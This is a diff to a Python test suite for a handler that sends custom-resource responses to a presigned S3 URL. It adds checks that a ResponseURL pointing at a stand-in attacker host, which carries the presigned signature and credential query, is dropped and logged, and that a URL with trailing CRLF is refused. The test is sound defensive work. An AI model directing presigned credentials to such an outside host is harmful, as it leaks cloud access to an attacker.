@@ -27,6 +27,7 @@ QUERY = URL.split("?", 1)[1]
 SIGNATURE = QUERY.rsplit("X-Amz-Signature=", 1)[1]
 CREDENTIAL = QUERY.split("X-Amz-Credential=", 1)[1].split("&", 1)[0]
 SECRETS = (URL, QUERY, SIGNATURE, CREDENTIAL)
+UNTRUSTED_HOST = "attacker.example.net"
 
 
 def leaks(text: str) -> list[str]:
@@ -74,7 +75,8 @@ def every_path(results: str) -> None:
         bucket.fail_next = 1000
         deliver("delete.json", timeout=1.5)
         bucket.fail_next = 0
-        deliver("delete.json", ResponseURL=URL + "\r\n")  # a URL http.client refuses
+        deliver("delete.json", ResponseURL=URL + "\r\n")  # control characters: dropped
+        deliver("delete.json", ResponseURL=f"https://{UNTRUSTED_HOST}:8443/collect?{QUERY}")
         deliver("delete.json", LogicalResourceId=None, RequestType="Unknown")
         bodies = [put.body for put in bucket.puts]
     Path(results).write_text(json.dumps(bodies))
@@ -120,13 +122,16 @@ def test_the_logs_were_really_at_debug_and_covered_the_error_paths(container):
     for line in ("Response PUT failed", "Could not send the response before the deadline"):
         assert line in output
     assert "Timed out" in output
+    assert f"(host '{UNTRUSTED_HOST}')" in output, "an untrusted URL is dropped naming its host"
     assert "boom" in output
 
 
 def test_no_reason_carries_the_url(container):
     _, bodies = container
 
-    assert len(bodies) == 10, "every event answered, the PUT failures included"
+    assert len(bodies) == 9, (
+        "every event answered, the PUT failures included, but the two URLs dropped"
+    )
     assert {body["Status"] for body in bodies} == {"SUCCESS", "FAILED"}
     assert leaks(json.dumps(bodies)) == []
     assert URL.split("/")[2] not in json.dumps(bodies), "not even the URL's head"
